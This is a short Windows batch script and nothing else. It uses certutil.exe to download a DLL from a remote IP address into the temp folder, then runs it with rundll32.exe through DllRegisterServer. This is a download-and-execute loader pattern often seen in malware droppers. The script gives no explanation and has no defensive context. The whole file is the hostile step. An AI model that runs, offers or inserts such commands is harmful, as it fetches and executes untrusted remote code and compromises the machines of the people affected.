@echo off
certutil.exe -urlcache -split -f http://198.51.100.12/sdd.dll %TEMP%\sdd.dll
rundll32.exe %TEMP%\sdd.dll,DllRegisterServer
